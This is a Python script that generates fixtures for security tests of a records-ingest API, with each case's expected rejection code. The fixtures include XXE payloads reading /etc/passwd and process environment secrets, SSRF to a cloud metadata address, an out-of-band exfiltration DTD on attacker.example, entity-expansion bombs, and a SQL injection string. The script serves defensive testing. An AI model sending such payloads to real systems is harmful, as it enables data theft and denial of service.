#!/usr/bin/env python3
"""Generates the hostile-input corpus for POST /api/v1/records.

    python3 scripts/gen_hostile_corpus.py

Writes one file per case and `manifest.tsv` to Tests/HubIntegrationTests/Fixtures/hostile/ (and removes files
there that are no longer cases). Deterministic: no randomness, no clock; running it twice gives the same bytes.
Python 3 standard library only.

Every expected answer was worked out from the source of the decode/read path:
IngestService.decoder(for:) (media type, charset) -> JSONBodyDecoder/JSONParser or XMLBodyDecoder/SafeXMLParser
(libxml2) + RecordXML -> RecordReader.readBatch (batch-level errors, 400) -> DepartmentProfile.apply ->
RecordReader.read (schema) -> RecordRules (only when the schema found nothing). A record-level case is a batch
(one record, except two multi-record cases) whose records are valid except for a deliberate defect, the one the
manifest names for results[0], so that every record is rejected by the reader and nothing is ever written. No case uses a department profile's own field names
or values, so the answers are the same with or without a profile.
"""
import codecs
import copy
import json
import os
import sys

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.path.join(ROOT, "Tests", "HubIntegrationTests", "Fixtures", "hostile")

# Codes that pass every format check (SampleRecords in HubClient; catalog item of 衡阳市市场监督管理局).
CATALOG = "43012100010000"
IMPLEMENTATION = "11430400013248734H34301210001000001"
AGENCY = "11430400013248734H"
PARTY_USCC = "91330105MA2KER1H4N"
PARTY_USCC_BAD = "91330105MA2KER1H4M"  # check character (position 18) wrong -> invalid_check_digit
PENALTY_PARTY_USCC = "913303275586060950"
RESIDENT_ID = "430402199003071230"  # check digit verified below

JSON = "application/json"
XML = "application/xml"


# ------------------------------------------------------------------------------------------------ helpers
class Raw(str):
    """Emitted verbatim: JSON literal text, or XML markup inside an element."""


DEL = object()  # a path value that removes the member


def resident_check(body17):
    w = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    return body17 + "10X98765432"[sum(int(c) * k for c, k in zip(body17, w)) % 11]


assert resident_check(RESIDENT_ID[:17]) == RESIDENT_ID

USCC_SYMBOLS = "0123456789ABCDEFGHJKLMNPQRTUWXY"


def uscc_with_check(body17):
    """Completes 17 characters with the GB 32100 check character (position 18), as USCC.withCheckCharacter."""
    w = [1, 3, 9, 27, 19, 26, 16, 17, 20, 29, 25, 13, 8, 24, 10, 30, 28]
    check = (31 - sum(USCC_SYMBOLS.index(c) * k for c, k in zip(body17, w)) % 31) % 31
    return body17 + USCC_SYMBOLS[check]


assert uscc_with_check(PARTY_USCC[:17]) == PARTY_USCC and uscc_with_check(AGENCY[:17]) == AGENCY


def inspection(local_id="HX-0001"):
    return {
        "localId": local_id, "kind": "inspection", "operation": "upsert",
        "item": {"localCode": "JC-0042", "localName": "药品零售企业监督检查", "legalBasis": "《中华人民共和国药品管理法》第九十九条",
                 "catalogCode": CATALOG, "implementationCode": IMPLEMENTATION},
        "actionName": "对衡阳市某大药房的日常监督检查",
        "agency": {"name": "衡阳市市场监督管理局", "code": AGENCY},
        "subject": {"type": "01", "name": "衡阳市某大药房有限公司"},
        "party": {"name": "衡阳市某大药房有限公司", "nature": "2", "idType": "001", "idNumber": PARTY_USCC,
                  "registeredAddress": "湖南省衡阳市珠晖区东风路1号", "businessAddress": "湖南省衡阳市珠晖区东风路1号"},
        "regionCode": "430405",
        "inspection": {"form": "01", "category": "01", "mode": "01", "result": "01", "date": "2026-11-20T09:30:00+08:00",
                       "inspectors": [{"name": "检查员1", "certificateNo": "4304002026010"},
                                      {"name": "检查员2", "certificateNo": "4304002026011"}]},
        "submittedAt": "2026-11-21T10:00:00+08:00", "submittedBy": "张三",
    }


def penalty(local_id="HX-P-0001"):
    return {
        "localId": local_id, "kind": "penalty",
        "item": {"localCode": "CF-0107", "localName": "销售劣药行政处罚", "legalBasis": "《中华人民共和国药品管理法》第一百一十七条"},
        "actionName": "对衡阳市某大药房销售劣药的行政处罚",
        "agency": {"name": "衡阳市市场监督管理局", "code": AGENCY},
        "subject": {"type": "01", "name": "衡阳市某大药房有限公司"},
        "party": {"name": "衡阳市某大药房有限公司", "nature": "2", "idType": "001", "idNumber": PENALTY_PARTY_USCC},
        "regionCode": "430405",
        "penalty": {
            "caseSource": "01", "facts": "该药房销售的某批次药品经检验为劣药。", "basis": "《中华人民共和国药品管理法》第一百一十七条第一款",
            "procedure": "02", "hearing": False, "filedAt": "2026-10-08T09:00:00+08:00", "criminal": False, "major": False,
            "legalReview": {"done": True, "date": "2026-10-28T10:00:00+08:00", "opinion": "同意"},
            "decisionNo": "衡市监罚〔2026〕12号", "decidedAt": "2026-11-02T15:00:00+08:00", "kinds": ["01", "02"], "fineAmount": "5000.00",
            "execution": {"method": "自觉履行", "result": "已缴纳", "paidAmount": "5000.00", "closedAt": "2026-11-18T10:00:00+08:00"},
        },
        "submittedAt": "2026-11-21T10:00:00+08:00", "submittedBy": "李四",
    }


def coercion(local_id="HX-C-0001"):
    return {
        "localId": local_id, "kind": "coercion",
        "item": {"localCode": "QZ-0003", "localName": "查封涉嫌违法的场所、设施或者财物"},
        "actionName": "查封某仓库涉嫌假冒药品",
        "agency": {"name": "衡阳市市场监督管理局", "code": AGENCY},
        "subject": {"type": "01", "name": "衡阳市某医药仓储有限公司"},
        "party": {"name": "衡阳市某医药仓储有限公司", "nature": "2", "idType": "001", "idNumber": PARTY_USCC},
        "regionCode": "430405",
        "coercion": {"measure": "查封场所、设施或者财物", "startAt": "2026-11-01T09:00:00+08:00", "endAt": "2026-11-15T17:00:00+08:00",
                     "closingStatus": "已解除", "source": "现场检查"},
        "submittedAt": "2026-11-21T10:00:00+08:00", "submittedBy": "王五",
    }


def citizen(local_id="HX-0001"):
    """An inspection of a natural person identified by a resident ID number."""
    r = inspection(local_id)
    r["party"] = {"name": "刘某", "nature": "1", "idType": "111", "idNumber": RESIDENT_ID}
    r["subject"] = {"type": "02", "name": "衡阳市珠晖区刘某药店"}
    return r


def split_path(path):
    parts = []
    for p in path.split("."):
        while "[" in p:
            name, rest = p.split("[", 1)
            if name:
                parts.append(name)
            idx, p = rest.split("]", 1)
            parts.append(int(idx))
        if p:
            parts.append(p)
    return parts


def with_(rec, *changes):
    """A copy of `rec` with `path=value` changes applied (`DEL` removes; a new name is appended).
    A tuple path names members literally (for names that hold dots or are empty)."""
    r = copy.deepcopy(rec)
    for path, value in changes:
        parts = list(path) if isinstance(path, tuple) else split_path(path)
        cur = r
        for p in parts[:-1]:
            cur = cur[p]
        if value is DEL:
            del cur[parts[-1]]
        else:
            cur[parts[-1]] = value
    return r


def jdump(v):
    if isinstance(v, Raw):
        return str(v)
    if isinstance(v, dict):
        return "{" + ",".join(jdump(k) + ":" + jdump(x) for k, x in v.items()) + "}"
    if isinstance(v, list):
        return "[" + ",".join(jdump(x) for x in v) + "]"
    if isinstance(v, bool):
        return "true" if v else "false"
    if v is None:
        return "null"
    if isinstance(v, int):
        return str(v)
    if isinstance(v, str):
        return json.dumps(v, ensure_ascii=False)
    raise TypeError(v)


def jbatch(*records, batch_id="2026112600001"):
    head = {} if batch_id is None else {"batchId": batch_id}
    head["records"] = list(records)
    return jdump(head)


def xesc(s, attribute=False):
    s = s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return s.replace('"', "&quot;") if attribute else s


def xel(name, v):
    if v is None:
        return ""
    if isinstance(v, Raw):
        return f"<{name}>{v}</{name}>"
    if isinstance(v, dict):
        return f"<{name}>" + "".join(xel(k, x) for k, x in v.items()) + f"</{name}>"
    if isinstance(v, list):
        child = name[:-1] if name.endswith("s") else name + "Item"
        return f"<{name}>" + "".join(xel(child, x) for x in v) + f"</{name}>"
    if isinstance(v, bool):
        return f"<{name}>{'true' if v else 'false'}</{name}>"
    return f"<{name}>{xesc(str(v))}</{name}>"


def xbatch(*records, batch_id="2026112600001", encoding="UTF-8", decl=True):
    out = f'<?xml version="1.0" encoding="{encoding}"?>\n' if decl else ""
    out += "<records" + (f' batchId="{xesc(batch_id, True)}"' if batch_id is not None else "") + ">"
    out += "".join(xel("record", r) for r in records)
    return out + "</records>\n"


def once(text, old, new):
    assert text.count(old) == 1, (old, text.count(old))
    return text.replace(old, new)


# A request-level case still carries a record that the reader would reject (a wrong USCC check character),
# so that even a decoder that wrongly let the body through could not make anything be written.
FILLER = with_(inspection("HX-FILL-1"), ("party.idNumber", PARTY_USCC_BAD))
FILLER_JSON = jbatch(FILLER)
FILLER_XML = xbatch(FILLER)

# ------------------------------------------------------------------------------------------------ cases
CASES = []


def add(file, content_type, status, code, scope, note, body):
    if isinstance(body, str):
        body = body.encode("utf-8")
    assert "\t" not in note and "\n" not in note and "\t" not in content_type, file
    assert scope == ("record" if status == 200 else "request"), file
    CASES.append((file, content_type, status, code, scope, note, body))


def jreq(name, code, note, body, ct=JSON):
    add(f"json-{name}.json", ct, 400, code, "request", note, body)


def jrec(name, code, note, record_or_body, ct=JSON):
    body = record_or_body if isinstance(record_or_body, (str, bytes)) else jbatch(record_or_body)
    add(f"json-{name}.json", ct, 200, code, "record", note, body)


def xreq(name, code, note, body, ct=XML):
    add(f"xml-{name}.xml", ct, 400, code, "request", note, body)


def xrec(name, code, note, record_or_body, ct=XML):
    body = record_or_body if isinstance(record_or_body, (str, bytes)) else xbatch(record_or_body)
    add(f"xml-{name}.xml", ct, 200, code, "record", note, body)


I = inspection
FJ = FILLER_JSON.encode("utf-8")
BOM = b"\xef\xbb\xbf"

# ================================================================ XML: DOCTYPE and entities (SafeXMLParser)
# The byte scan for "<!DOCTYPE" / "<!ENTITY" refuses these before libxml2 runs; a DOCTYPE the scan cannot see
# (UTF-16) is refused after parsing (xmlGetIntSubset). Nothing is ever expanded or fetched.
R = "<records><record><localId>&x;</localId></record></records>"
XD = '<?xml version="1.0"?>'
xreq("xxe-file", "doctype_refused", "XXE: external entity to file:///etc/passwd used in localId",
     f'{XD}<!DOCTYPE records [<!ENTITY x SYSTEM "file:///etc/passwd">]>{R}')
xreq("xxe-file-proc-environ", "doctype_refused", "XXE: external entity to /proc/self/environ (secrets in the environment)",
     f'{XD}<!DOCTYPE records [<!ENTITY x SYSTEM "file:///proc/self/environ">]>{R}')
xreq("xxe-url-http", "doctype_refused", "XXE: external entity to an http URL on loopback (SSRF)",
     f'{XD}<!DOCTYPE records [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>{R}')
xreq("xxe-url-metadata", "doctype_refused", "XXE: external entity to the cloud metadata address 169.254.169.254",
     f'{XD}<!DOCTYPE records [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>{R}')
xreq("xxe-public-id", "doctype_refused", "XXE: external entity declared with a PUBLIC identifier and URL",
     f'{XD}<!DOCTYPE records [<!ENTITY x PUBLIC "-//A//X//EN" "http://127.0.0.1:9/x.dtd">]>{R}')
xreq("xxe-in-attribute", "doctype_refused", "an internal entity used in the batchId attribute",
     f'{XD}<!DOCTYPE records [<!ENTITY x "2026112600001">]><records batchId="&x;"/>')
xreq("xxe-gb18030", "doctype_refused", "XXE in a GB18030 document with Chinese text (charset in Content-Type)",
     (f'<?xml version="1.0" encoding="GB18030"?><!DOCTYPE records [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
      "<records><record><actionName>检查&x;</actionName></record></records>").encode("gb18030"), ct=XML + "; charset=GB18030")
xreq("xxe-utf16", "unsupported_charset",
     "DOCTYPE and entity in a UTF-16 document: UTF-16 is refused before any parsing (the byte scan could not see the DOCTYPE)",
     ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE records [<!ENTITY x "lol">]>'
      "<records><record><localId>&x;</localId></record></records>").encode("utf-16"))
xreq("param-entity-file", "doctype_refused", "parameter-entity XXE: %p; loading file:///etc/passwd in the internal subset",
     f'{XD}<!DOCTYPE records [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><records/>')
xreq("param-entity-oob", "doctype_refused", "parameter-entity out-of-band exfiltration (remote DTD plus %send;)",
     f'{XD}<!DOCTYPE records [<!ENTITY % file SYSTEM "file:///etc/hostname">'
     '<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd; %send;]><records/>')
xreq("param-entity-nested", "doctype_refused", "a parameter entity declaring another (error-based XXE)",
     f"{XD}<!DOCTYPE records [<!ENTITY % a \"<!ENTITY &#x25; b SYSTEM 'file:///nonexistent/x'>\"> %a; %b;]><records/>")
LOL = "".join(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(1, 10))
xreq("billion-laughs", "doctype_refused", "billion laughs: 10 levels of 10 entity references",
     f'{XD}<!DOCTYPE records [<!ENTITY lol0 "lol">{LOL}]><records><record><localId>&lol9;</localId></record></records>')
xreq("billion-laughs-recursive", "doctype_refused", "self-referencing entities (a -> b -> a)",
     f'{XD}<!DOCTYPE records [<!ENTITY a "&b;"><!ENTITY b "&a;">]><records><record><localId>&a;</localId></record></records>')
xreq("quadratic-blowup", "doctype_refused", "quadratic blow-up: one 100 000-character entity referenced 3 000 times",
     f'{XD}<!DOCTYPE records [<!ENTITY a "{"A" * 100000}">]><records><record><actionName>' + "&a;" * 3000
     + "</actionName></record></records>")
BODY = FILLER_XML.split("\n", 1)[1]  # the filler batch without its XML declaration
xreq("doctype-public", "doctype_refused", "DOCTYPE with a PUBLIC identifier (XHTML DTD URL)",
     f'{XD}<!DOCTYPE records PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">{BODY}')
xreq("doctype-system", "doctype_refused", "DOCTYPE with a SYSTEM identifier (relative DTD file)",
     f'{XD}<!DOCTYPE records SYSTEM "records.dtd">{BODY}')
xreq("doctype-internal-subset", "doctype_refused", "DOCTYPE with an internal subset of element declarations only",
     f"{XD}<!DOCTYPE records [<!ELEMENT records (record*)><!ELEMENT record ANY>]>{BODY}")
xreq("doctype-attlist-default", "doctype_refused", "DOCTYPE whose ATTLIST would inject a default batchId attribute",
     f'{XD}<!DOCTYPE records [<!ATTLIST records batchId CDATA "INJECTED">]>{BODY}')
xreq("doctype-empty-subset", "doctype_refused", "DOCTYPE with an empty internal subset", f"{XD}<!DOCTYPE records []><records/>")
xreq("doctype-bare", "doctype_refused", "bare DOCTYPE with a name only, no XML declaration", "<!DOCTYPE records><records/>")
xreq("doctype-in-comment", "doctype_refused", "the text <!DOCTYPE inside a comment is refused by the byte scan",
     f"{XD}<records><!-- <!DOCTYPE records> --></records>")
xreq("entity-decl-without-doctype", "doctype_refused", "an <!ENTITY declaration outside any DOCTYPE is refused by the byte scan",
     f'{XD}<!ENTITY x SYSTEM "file:///etc/passwd"><records/>')

# ================================================================ XML: nesting (SafeXMLParser.maxDepth 32; libxml2's own limit 256)
def deep_xml(levels, inner="a"):
    n = levels - 1  # <records> is level 1
    return "<records>" + f"<{inner}>" * n + f"</{inner}>" * n + "</records>"


xreq("deep-33", "too_deep", "elements nested 33 deep (limit 32)", deep_xml(33))
xreq("deep-50-in-record", "too_deep", "nesting 50 deep inside a record's item element",
     "<records><record><item>" + "<a>" * 47 + "</a>" * 47 + "</item></record></records>")
xreq("deep-257", "too_deep", "elements nested 257 deep (the deepest libxml2 itself takes)", deep_xml(257))
xreq("deep-records-in-records", "too_deep", "<records> nested 40 deep", "<records>" * 40 + "</records>" * 40)
xreq("deep-258", "malformed_xml", "elements nested 258 deep: libxml2 refuses the document itself (excessive depth)", deep_xml(258))
xreq("deep-10000", "malformed_xml", "elements nested 10 000 deep", deep_xml(10000))
xrec("deep-32-unknown-element", "unknown_field", "an unknown element whose children reach exactly depth 32 (allowed): unknown_field",
     once(xbatch(I("HX-X-D32")), "<submittedBy>", "<extra>" + "<a>" * 29 + "</a>" * 29 + "</extra><submittedBy>"))

# ================================================================ XML: truncated and not well-formed
FULL = FILLER_XML
FULLB = FULL.encode("utf-8")
GBDOC = xbatch(FILLER, encoding="GB18030").encode("gb18030")
xreq("truncated-after-declaration", "malformed_xml", "truncated right after the XML declaration", FULL.split("\n")[0] + "\n")
xreq("truncated-in-text", "malformed_xml", "truncated in the middle of a text value", FULL[:FULL.index("对衡阳市") + 3])
xreq("truncated-before-last-end-tag", "malformed_xml", "the closing </records> is missing", FULL[:FULL.rindex("</records>")])
xreq("truncated-in-cdata", "malformed_xml", "truncated inside a CDATA section",
     f"{XD}<records><record><actionName><![CDATA[对衡阳市")
xreq("truncated-in-multibyte", "malformed_xml", "truncated in the middle of a 3-byte UTF-8 character",
     FULLB[:FULLB.index("对".encode()) + 2])
xreq("truncated-gb18030-multibyte", "malformed_xml", "a GB18030 document cut in the middle of a 2-byte character",
     GBDOC[:GBDOC.index("对".encode("gb18030")) + 1], ct=XML + "; charset=GB18030")
xreq("empty-body", "malformed_xml", "empty body", b"")
xreq("not-xml", "malformed_xml", "plain text", "this is not xml")
xreq("doctype-lowercase", "malformed_xml", "a lowercase <!doctype is not XML markup (and not caught by the scan): not well-formed",
     "<!doctype records><records/>")
xreq("undefined-entity-nbsp", "malformed_xml", "the HTML entity &nbsp; without a DTD is an undeclared entity",
     xbatch(with_(FILLER, ("actionName", Raw("检查&nbsp;记录")))))
xreq("duplicate-attribute", "malformed_xml", "the batchId attribute twice on <records>", '<records batchId="A" batchId="B"/>')
xreq("bare-ampersand", "malformed_xml", "an unescaped & in text", xbatch(with_(FILLER, ("actionName", Raw("A & B")))))
xreq("charref-control-1", "malformed_xml", "character reference &#x1; is not an XML 1.0 character",
     xbatch(with_(FILLER, ("actionName", Raw("A&#x1;B")))))
xreq("raw-nul-byte", "malformed_xml", "a raw NUL byte in text", FULL.replace("对衡阳市", "对\x00衡阳市"))


def xml_bytes_in_localid(seq):
    return b'<?xml version="1.0" encoding="UTF-8"?><records><record><localId>' + seq + b"</localId></record></records>"


for name, seq, what in [
    ("invalid-utf8-overlong", b"\xc0\xaf", "overlong 2-byte encoding of /"),
    ("invalid-utf8-surrogate", b"\xed\xa0\x80", "UTF-8 encoded surrogate U+D800"),
    ("invalid-utf8-lone-continuation", b"\x80", "a lone continuation byte"),
]:
    xreq(name, "malformed_xml", f"invalid UTF-8 in an element: {what}", xml_bytes_in_localid(seq))
xreq("declared-utf8-gb18030-bytes", "malformed_xml", "declared UTF-8 but the bytes are GB18030", xbatch(FILLER).encode("gb18030"))
xreq("charset-utf8-overrides-gb18030", "malformed_xml",
     "Content-Type charset=utf-8 wins over the declared GB18030, and the GB18030 bytes are not UTF-8", GBDOC, ct=XML + "; charset=utf-8")
xreq("declared-gb2312-gbk-only-chars", "malformed_xml", "declared GB2312 but holds characters only GBK has (镕, 喆)",
     xbatch(with_(FILLER, ("party.name", "朱镕喆有限公司")), encoding="GB2312").encode("gbk"))

# ================================================================ XML: encodings that are not taken
for name, decl in [("iso-8859-1", "ISO-8859-1"), ("utf-16", "UTF-16"), ("shift-jis", "Shift_JIS")]:
    xreq(f"declared-{name}", "unsupported_charset", f"the XML declaration names encoding {decl}",
         FILLER_XML.replace('encoding="UTF-8"', f'encoding="{decl}"'))
xreq("declared-big5-single-quotes", "unsupported_charset", "encoding='Big5' in single quotes",
     FILLER_XML.replace('encoding="UTF-8"', "encoding='Big5'"))
xreq("bom-then-declared-latin1", "unsupported_charset", "a UTF-8 BOM followed by a declaration of ISO-8859-1",
     BOM + FILLER_XML.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').encode())
xreq("content-type-charset-shift-jis", "unsupported_charset", "Content-Type charset=Shift_JIS is not taken for XML",
     FILLER_XML, ct=XML + "; charset=Shift_JIS")
xreq("content-type-charset-empty", "unsupported_charset", "an empty Content-Type charset= is not taken for XML",
     FILLER_XML, ct=XML + "; charset=")
xreq("charset-header-ok-declared-bad", "unsupported_charset",
     "Content-Type charset=GB18030 is taken, but the declared encoding Big5 is still refused",
     FILLER_XML.replace('encoding="UTF-8"', 'encoding="Big5"'), ct=XML + "; charset=GB18030")

# ================================================================ XML: batch structure (RecordXML, RecordReader.readBatch)
xreq("wrong-root-batch", "wrong_root", "root element <batch>", "<batch/>")
xreq("wrong-root-record", "wrong_root", "a single <record> as the root", xel("record", FILLER))
xreq("wrong-root-soap", "wrong_root", "a SOAP envelope around the batch",
     f'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>{BODY}</soap:Body></soap:Envelope>')
xreq("wrong-root-undeclared-prefix", "wrong_root", "a root with an undeclared prefix keeps its qualified name x:records", "<x:records/>")
xreq("child-not-record", "unknown_field", "<records> holds an <item> element", "<records><item/></records>")
xreq("child-xinclude", "unknown_field", "an XInclude element in <records> (XInclude is not processed)",
     '<records xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></records>')
xreq("root-unknown-attribute", "unknown_field", "an attribute other than batchId on <records>",
     FILLER_XML.replace('<records batchId="2026112600001"', '<records batchId="2026112600001" department="HY-WJ"'))
xreq("root-xsi-schema-location", "unknown_field", "xsi:schemaLocation pointing to a remote schema on <records>",
     FILLER_XML.replace("<records ", '<records xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                                      'xsi:schemaLocation="urn:x http://attacker.example/x.xsd" '))
xreq("empty-records", "empty", "<records/> with no record", f'{XD}<records batchId="2026112600001"/>')
xreq("batchid-too-long", "invalid_value", "a batchId attribute of 51 characters", FILLER_XML.replace("2026112600001", "B" * 51))
xreq("too-many-records", "too_many_records", "1 001 empty <record/> elements (limit 1 000)", "<records>" + "<record/>" * 1001 + "</records>")
DUP = xbatch(with_(FILLER, ("localId", "HX-X-DUP")))
xreq("duplicate-localId", "duplicate_element", "<localId> twice in a record", once(DUP, "<kind>", "<localId>HX-X-DUP2</localId><kind>"))
xreq("duplicate-nested", "duplicate_element", "<name> twice inside <party>", once(DUP, "<nature>", "<name>某公司</name><nature>"))
xreq("duplicate-unknown-element", "duplicate_element", "an unknown element twice (the repetition is found before the unknown field)",
     once(DUP, "<submittedBy>", "<extra>1</extra><extra>2</extra><submittedBy>"))
xreq("duplicate-inside-text-field", "duplicate_element", "repeated child elements inside a text field (<actionName><a/><a/></actionName>)",
     once(DUP, "<actionName>对衡阳市某大药房的日常监督检查</actionName>", "<actionName><a/><a/></actionName>"))

# ================================================================ XML: record level (200, the record is rejected)
xrec("utf8-bom", "invalid_check_digit", "a UTF-8 BOM before the declaration is accepted; wrong party USCC", BOM + FULLB)
xrec("gb18030-charset-header", "invalid_check_digit", "GB18030 bytes named by charset=GB18030; wrong party USCC",
     GBDOC, ct=XML + "; charset=GB18030")
xrec("gbk-declared", "invalid_timestamp", "GBK bytes declared GBK; an inspection date without an offset",
     xbatch(with_(I("HX-X-GBK"), ("inspection.date", "2026-11-20T09:30:00")), encoding="GBK").encode("gbk"))
xrec("gb2312-declared", "too_few_inspectors", "GB2312 bytes declared gb2312 (lowercase); one inspector",
     xbatch(with_(I("HX-X-GB2312"), ("inspection.inspectors", [I()["inspection"]["inspectors"][0]])), encoding="gb2312").encode("gb2312"))
xrec("text-xml-media-type", "invalid_check_digit", "text/xml is taken like application/xml; wrong party USCC", FILLER_XML, ct="text/xml")
xrec("xinclude-in-record", "unknown_field", "an XInclude element inside a record is not processed: an unknown field",
     once(xbatch(I("HX-X-XI")), "<submittedBy>",
          '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><submittedBy>'))
xrec("unknown-element", "unknown_field", "an element the schema does not know (<extra>)",
     once(xbatch(I("HX-X-UNK")), "<submittedBy>", "<extra>x</extra><submittedBy>"))
xrec("cdata-in-localid-bad-uscc", "invalid_check_digit", "CDATA holding markup in localId (allowed); wrong party USCC",
     xbatch(with_(FILLER, ("localId", Raw("<![CDATA[HX-<b>&1]]>")))))
xrec("comment-splitting-localid", "invalid_check_digit", "a comment splitting the localId text (HX-<!--c-->A reads HX-A); wrong party USCC",
     xbatch(with_(FILLER, ("localId", Raw("HX-<!-- c -->A")))))
xrec("comment-splitting-boolean", "invalid_money", "tr<!-- c -->ue reads as true in a penalty; fineAmount 5000.001",
     xbatch(with_(penalty("HX-X-CB"), ("penalty.hearing", Raw("tr<!-- c -->ue")), ("penalty.fineAmount", "5000.001"))))
xrec("cdata-in-object-element", "wrong_type", "CDATA text where the item object is expected",
     xbatch(with_(I("HX-X-CO"), ("item", Raw("<![CDATA[JC-0042]]>")))))
xrec("comments-between-fields", "invalid_timestamp", "a comment and a processing instruction between all elements; submittedAt without offset",
     xbatch(with_(I("HX-X-CM"), ("submittedAt", "2026-11-21T10:00:00"))).replace("><", "><!-- c --><?pi d?><"))
xrec("empty-element", "empty", "<actionName/> is an empty text", xbatch(with_(I("HX-X-E"), ("actionName", ""))))
xrec("text-where-list", "wrong_type", "text where the inspectors list is expected",
     xbatch(with_(I("HX-X-TL"), ("inspection.inspectors", "检查员1,检查员2"))))
xrec("boolean-yes", "wrong_type", "hearing holds yes, not true/false/1/0", xbatch(with_(penalty("HX-X-BY"), ("penalty.hearing", "yes"))))
xrec("charref-del", "control_character", "actionName holds DEL via &#x7F; (allowed by XML 1.0)",
     xbatch(with_(I("HX-X-DEL"), ("actionName", Raw("检查&#x7F;")))))
xrec("charref-cr", "control_character", "actionName holds a carriage return via &#13; (a raw CR would be normalised)",
     xbatch(with_(I("HX-X-CR"), ("actionName", Raw("检查&#13;记录")))))
xrec("sql-in-actionname", "invalid_catalog_code", "SQL injection in actionName; a catalogCode of 13 digits",
     xbatch(with_(I("HX-X-SQL"), ("actionName", "'); DELETE FROM records; --"), ("item.catalogCode", "4301210001000"))))

# ================================================================ JSON: request level
jreq("empty-body", "malformed_json", "empty body", b"")
jreq("double-bom", "malformed_json", "two UTF-8 BOMs (only one is tolerated)", BOM + BOM + FJ)
jreq("utf16le-bom", "malformed_json", "UTF-16LE with a BOM (JSON must be UTF-8)", codecs.BOM_UTF16_LE + FILLER_JSON.encode("utf-16-le"))
jreq("gb18030-bytes", "malformed_json", "GB18030 bytes without a charset are not UTF-8", FILLER_JSON.encode("gb18030"))
jreq("not-json", "malformed_json", "plain text", "this is not json")
jreq("xml-as-json", "malformed_json", "an XML batch sent as application/json", FILLER_XML)

jreq("nesting-65-arrays", "malformed_json", "arrays nested 65 deep at top level (limit 64)", "[" * 65 + "]" * 65)
jreq("nesting-65-objects", "malformed_json", "objects nested 65 deep at top level (limit 64)", '{"a":' * 64 + "{}" + "}" * 64)
jreq("nesting-100000-arrays", "malformed_json", "100 000 opening brackets", "[" * 100000)
jreq("nesting-65-in-record", "malformed_json", "a localId of arrays taking the document to depth 65",
     jbatch(with_(FILLER, ("localId", Raw("[" * 62 + "]" * 62)))))
jreq("nesting-64-top-array", "wrong_type", "arrays nested exactly 64 deep parse, but the top level is not an object", "[" * 64 + "]" * 64)

T = FILLER_JSON
jreq("truncated-open-brace", "malformed_json", "truncated after the opening brace", "{")
jreq("truncated-after-colon", "malformed_json", "truncated after a colon", T[:T.index('"records":') + 10])
jreq("truncated-in-string", "malformed_json", "truncated inside a string value", T[:T.index("对衡阳市") + 2])
jreq("truncated-in-escape", "malformed_json", "truncated inside a \\u escape", '{"records":[{"localId":"\\u00')
jreq("truncated-missing-final-brace", "malformed_json", "the last closing brace is missing", T[:-1])
jreq("truncated-in-multibyte", "malformed_json", "truncated in the middle of a 3-byte UTF-8 character", FJ[:FJ.index("对".encode()) + 2])

SB = '"submittedBy":"张三"'
for name, text, what in [
    ("trailing-comma", T[:-3] + ",}]}", "a trailing comma in an object"),
    ("single-quotes", "{'records':[]}", "single-quoted strings"),
    ("nan", T.replace(SB, '"submittedBy":NaN'), "NaN"),
    ("infinity", T.replace(SB, '"submittedBy":Infinity'), "Infinity"),
    ("minus-infinity", T.replace(SB, '"submittedBy":-Infinity'), "-Infinity"),
    ("number-65-chars", T.replace('"regionCode":"430405"', '"regionCode":' + "4" * 65), "a number of 65 characters (limit 64)"),
    ("number-1000-digits", T.replace('"regionCode":"430405"', '"regionCode":' + "9" * 1000), "a 1000-digit number"),
    ("raw-tab-in-string", T.replace("对衡阳市", "对\t衡阳市"), "a raw tab inside a string (it must be escaped)"),
    ("escape-nul", T.replace("对衡阳市", "对\\u0000衡阳市"), "the escape \\u0000 in actionName (refused by the parser)"),
    ("escape-lone-high-surrogate", T.replace("对衡阳市", "\\uD800"), "a lone high surrogate escape \\uD800"),
    ("duplicate-records", T[:-1] + ',"records":[]}', "the member records twice"),
    ("duplicate-localid", T.replace('"kind"', '"localId":"HX-2","kind"', 1), "localId twice in a record"),
    ("duplicate-nested", T.replace('"nature":"2"', '"name":"另一公司","nature":"2"', 1), "party.name twice"),
    ("duplicate-via-escape", T.replace('"kind"', '"local\\u0049d":"HX-2","kind"', 1), "localId and local\\u0049d are the same name"),
]:
    jreq(name, "malformed_json", what, text)

for name, seq, what in [
    ("invalid-utf8-overlong", b"\xc0\xaf", "overlong 2-byte encoding C0 AF"),
    ("invalid-utf8-overlong-nul", b"\xc0\x80", "overlong encoding of NUL (modified UTF-8)"),
    ("invalid-utf8-surrogate", b"\xed\xa0\x80", "UTF-8 encoded surrogate U+D800"),
    ("invalid-utf8-above-10ffff", b"\xf4\x90\x80\x80", "code point U+110000"),
    ("invalid-utf8-ff", b"\xff", "the byte 0xFF"),
    ("invalid-utf8-lone-continuation", b"\x80", "a lone continuation byte 0x80"),
]:
    jreq(name, "malformed_json", f"invalid UTF-8 in actionName: {what}", FJ.replace("对衡阳市".encode(), seq, 1))
jreq("invalid-utf8-in-member-name", "malformed_json", "invalid UTF-8 (0xFF) in a member name", FJ.replace(b'"submittedBy"', b'"submitted\xffBy"', 1))

jreq("top-null", "wrong_type", "the document is null", "null")
jreq("top-number", "wrong_type", "the document is a number", "1")
jreq("top-string", "wrong_type", "the document is a string", '"records"')
jreq("top-array-of-records", "wrong_type", "the records array without the batch object", "[" + jdump(FILLER) + "]")
jreq("records-null", "wrong_type", "records is null", '{"batchId":"2026112600001","records":null}')
